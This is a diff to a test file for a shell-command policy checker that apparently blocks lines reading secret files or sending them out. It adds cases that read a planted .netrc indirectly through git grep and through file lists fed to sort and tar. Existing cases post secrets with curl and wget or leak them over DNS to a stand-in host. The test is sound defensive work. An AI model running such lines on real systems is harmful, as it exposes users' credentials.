@@ -5,11 +5,11 @@
 // - when a canary reaches a network program, `decide` is `deny`.
 // Lines that do not reach a canary under bash are skipped, and a counter makes sure enough of them do.
 import { spawnSync } from "node:child_process";
-import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
-import { tmpdir } from "node:os";
+import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { dirname, join } from "node:path";
 import fc from "fast-check";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { tempDir } from "@slashi/test-utils";
 import {
   decide,
   loadShellParser,
@@ -21,7 +21,8 @@ import {
 } from "../src/index.js";
 
 const BASH = ["/bin/bash", "/usr/bin/bash"].find((p) => existsSync(p));
-const base = mkdtempSync(join(tmpdir(), "slashi-secrets-"));
+const scratch = tempDir("slashi-secrets-");
+const base = scratch.dir;
 const home = join(base, "home");
 const workspace = join(home, "project");
 const bin = join(base, "bin");
@@ -127,6 +128,8 @@ const RECURSIVE: readonly string[] = [
   "find D -type f -exec cat {} +",
   "tar cf - D 2>/dev/null | tar xOf - 2>/dev/null",
   "cp -r D copy && cat copy/.netrc",
+  "git grep --no-index -h CANARY -- D",
+  "git --no-pager grep --no-index -e CANARY D",
 ];
 const FOLDERS: readonly string[] = ["~", "$HOME", "..", "/proc/self/cwd/..", "$(dirname $PWD)", "${HOME%/}"];
 
@@ -139,6 +142,20 @@ const SENDS: readonly string[] = [
   "wget --post-file=P http://example.invalid",
   "dig $(S | head -c 20).example.invalid",
   'x=$(S); curl -d "$x" http://example.invalid',
+];
+
+/**
+ * Reads of the files a list names (L: a list file in the workspace naming a secret, NUL- or line-separated as
+ * the program wants). The list is the repository's, so what it names is not in the line.
+ */
+const LIST_READS: readonly string[] = [
+  "sort --files0-from=L0",
+  "sort --files0-from L0",
+  "sort --files0-f=L0",
+  "sort -u --files0-from=./L0",
+  "tar -cf - -T L 2>/dev/null | tar -xOf - 2>/dev/null",
+  "tar -c --files-from=L -f - 2>/dev/null | tar -xOf - 2>/dev/null",
+  "tar --create --file=- --files-from L 2>/dev/null | tar -xOf - 2>/dev/null",
 ];
 
 const separator = fc.constantFrom("; ", " && ", "\n");
@@ -155,6 +172,8 @@ beforeAll(async () => {
     mkdirSync(dirname(join(home, path)), { recursive: true });
     writeFileSync(join(home, path), `${canary}\n`);
   }
+  writeFileSync(join(workspace, "L0"), `${home}/.netrc\0`);
+  writeFileSync(join(workspace, "L"), `${home}/.netrc\n`);
   mkdirSync(bin);
   for (const sink of SINKS) {
     writeFileSync(join(bin, sink), SINK_SCRIPT);
@@ -163,7 +182,7 @@ beforeAll(async () => {
 });
 
 afterAll(() => {
-  rmSync(base, { recursive: true, force: true });
+  scratch.remove();
 });
 
 const secretPath = fc.constantFrom(...SECRETS.map(([path]) => path));
@@ -230,6 +249,29 @@ describe.skipIf(!BASH)("secrets reached indirectly, against real bash", { timeou
       30,
     );
     expect(reached).toBeGreaterThan(8);
+  });
+
+  it("does not allow a generated read of the files a list names", () => {
+    const reached = checkReached(
+      "printed",
+      "not-allow",
+      fc.tuple(fc.constantFrom(...LIST_READS)).map(([read]) => read),
+      20,
+    );
+    expect(reached).toBeGreaterThan(5);
+    // the same lists read by programs that print no content still open the files they name
+    for (const line of [
+      "wc --files0-from=L0",
+      "du --files0-from=L0",
+      "file -f L",
+      "md5sum -c L",
+      "b2sum --check L",
+    ]) {
+      expect(
+        decide(line, policy, context).reasons.map((r) => r.code),
+        line,
+      ).toContain("secret.unknown-path");
+    }
   });
 
   it("denies a generated line that sends a secret to a network program", () => {
